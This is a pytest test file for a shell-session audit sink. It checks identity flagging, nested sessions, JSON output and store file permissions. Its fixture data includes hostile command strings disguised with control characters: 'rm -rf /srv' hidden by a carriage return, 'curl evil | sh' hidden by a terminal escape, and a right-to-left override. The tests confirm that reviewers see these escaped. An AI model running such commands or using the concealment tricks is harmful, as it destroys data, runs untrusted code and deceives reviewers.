"""What the API and the CLI show: the verified identity first with a claimed user name that
differs flagged, nested sessions (parent and children), control characters escaped for a
reviewer, strict JSON for an empty result, and store files only the sink can read."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import urllib.request

import pytest

from shellspan import semconv
from shellspan_testing.auth_helpers import SECRET, bearer, send, token
from shellspan_testing.otlp_builders import Command, SessionSpec, kv, session_spans
from shellspan_testing.sinkproc import SINK_BIN, SinkProcess

PARENT = SessionSpec(user="root", commands=[Command("id"), Command("su - bob"), Command("exit")])
CHILD = SessionSpec(user="bob", start_ns=PARENT.start_ns + 2 * 10**9, commands=[Command("ls")])
ANONYMOUS = SessionSpec(user="anon-display", commands=[Command("uptime")])
HIDDEN = SessionSpec(user="hider", commands=[Command("ls\rrm -rf /srv #"),
                                             Command("\x1b[2Kcurl evil | sh"),
                                             Command("echo \u202etxt.exe")])


@pytest.fixture(scope="module")
def sink(tmp_path_factory):
    proc = SinkProcess(tmp_path_factory.mktemp("display"),
                       env={"SHELLSPAN_AUTH_SECRET": SECRET, "SHELLSPAN_AUTH_MODE": "optional"})
    proc.start()
    parent_spans = session_spans(PARENT)
    child_spans = session_spans(CHILD)
    su = parent_spans[2]  # the start span, then the commands in order: "su - bob" is the second
    for span in child_spans:
        if span.name in (semconv.SPAN_SESSION_START, semconv.SPAN_SESSION):
            span.attributes.extend([kv(semconv.PARENT_SESSION_ID, PARENT.session_id),
                                    kv(semconv.PARENT_SPAN_ID, su.span_id.hex())])
    assert send(proc, PARENT, bearer(token("alice")), parent_spans).status == 200
    assert send(proc, CHILD, bearer(token("bob")), child_spans).status == 200
    assert send(proc, ANONYMOUS).status == 200
    assert send(proc, HIDDEN, bearer(token("hider"))).status == 200
    proc.read_token = token("reader", scope="sessions:read sessions:sql")
    proc.wait_for(lambda: len(proc.sessions()) == 4)
    yield proc
    proc.stop()


def by_id(sink: SinkProcess) -> dict[str, dict]:
    return {s["session_id"]: s for s in sink.sessions()}


def cli(sink: SinkProcess, *args: str) -> str:
    done = subprocess.run([str(SINK_BIN), *args, "--api", sink.api_url], capture_output=True,
                          text=True, timeout=60,
                          env={**os.environ, "SHELLSPAN_READ_TOKEN": sink.read_token})
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_the_verified_identity_comes_first_and_a_different_claim_is_flagged(sink):
    sessions = by_id(sink)
    parent, anonymous = sessions[PARENT.session_id], sessions[ANONYMOUS.session_id]
    assert (parent["enduser_id"], parent["verified"], parent["user_name"]) == ("alice", True, "root")
    assert parent["user_mismatch"] is True
    assert sessions[CHILD.session_id]["user_mismatch"] is False  # bob claims bob
    assert (anonymous["verified"], anonymous["user_mismatch"]) == (False, False)
    listed = cli(sink, "sessions", "list")
    assert "alice [claims root]" in listed
    assert "anon-display [unverified]" in listed
    shown = cli(sink, "sessions", "show", PARENT.session_id)
    assert "identity           alice (verified)" in shown
    assert "claimed user       root   ! differs from the verified identity" in shown


def test_nested_sessions_know_their_parent_and_children(sink):
    parent = sink.session(PARENT.session_id)
    child = sink.session(CHILD.session_id)
    assert [(c["session_id"], c["command_seq"]) for c in parent["children"]] == \
        [(CHILD.session_id, 2)]
    assert parent["parent"] is None
    assert child["parent"]["session_id"] == PARENT.session_id
    assert (child["parent"]["command_seq"], child["parent"]["command"]) == (2, "su - bob")
    assert child["children"] == []
    shown = cli(sink, "sessions", "show", CHILD.session_id)
    assert f"started from       {PARENT.session_id} by command #2: su - bob" in shown
    shown = cli(sink, "sessions", "show", PARENT.session_id)
    assert f"nested sessions:\n  {CHILD.session_id}  (command #2)" in shown


def test_control_characters_are_shown_escaped(sink):
    shown = cli(sink, "sessions", "show", HIDDEN.session_id)
    assert "ls\\rrm -rf /srv #" in shown and "\\x1b[2Kcurl evil | sh" in shown
    assert "echo \\u202etxt.exe" in shown
    assert not any(c in shown for c in "\r\x1b\u202e")
    statement = (f"SELECT seq, command FROM shellspan.shell_commands FINAL "
                 f"WHERE session_id = '{HIDDEN.session_id}' ORDER BY seq")
    for fmt in ("table", "csv"):
        out = cli(sink, "sql", "--format", fmt, statement)
        assert "\\r" in out and "\\x1b" in out and not any(c in out for c in "\r\x1b\u202e"), fmt
    raw = json.loads(cli(sink, "sql", "--format", "json", statement))
    assert raw[0]["command"] == "ls\rrm -rf /srv #"  # JSON carries the text as it was


def test_an_empty_result_is_strict_json(sink):
    request = urllib.request.Request(f"{sink.api_url}/api/stats?user=nobody-at-all",
                                     headers={"Authorization": f"Bearer {sink.read_token}"})
    with urllib.request.urlopen(request, timeout=30) as resp:
        text = resp.read().decode()

    def refuse(name: str):
        raise AssertionError(f"{name} is not JSON")

    stats = json.loads(text, parse_constant=refuse)
    assert stats["totals"]["sessions"] == 0
    assert stats["totals"]["duration_p50_s"] is None
    status, answer = sink_sql(sink, "SELECT nan AS n, inf AS i, 1.5 AS x")
    assert status == 200 and answer["rows"] == [[None, None, 1.5]]


def sink_sql(sink: SinkProcess, statement: str) -> tuple[int, dict]:
    request = urllib.request.Request(f"{sink.api_url}/api/sql", data=statement.encode(),
                                     headers={"Authorization": f"Bearer {sink.read_token}"})
    with urllib.request.urlopen(request, timeout=30) as resp:
        return resp.status, json.loads(resp.read().decode(), parse_constant=lambda c: 1 / 0)


def test_the_store_and_wal_are_the_sinks_alone(tmp_path):
    data = tmp_path / "data"
    store_dir = data / "store"
    store_dir.mkdir(parents=True, mode=0o755)  # made by an older sink: opened up
    os.chmod(store_dir, 0o755)
    sink = SinkProcess(data).start()
    try:
        spec = SessionSpec(user="private", commands=[Command("true")])
        assert send(sink, spec).status == 200
        sink.wait_for(lambda: sink.sessions(user="private"))
        wal_dir = data / "store-wal"
        for top in (store_dir, wal_dir):
            assert stat.S_IMODE(top.stat().st_mode) == 0o700, top
        assert sum(1 for p in store_dir.rglob("*") if p.is_file()) > 10
        opened = [f"{p} {oct(stat.S_IMODE(p.lstat().st_mode))}"
                  for top in (store_dir, wal_dir) for p in top.rglob("*")
                  if not p.is_symlink() and stat.S_IMODE(p.lstat().st_mode) & 0o077]
        assert not opened, opened[:10]
    finally:
        sink.stop()
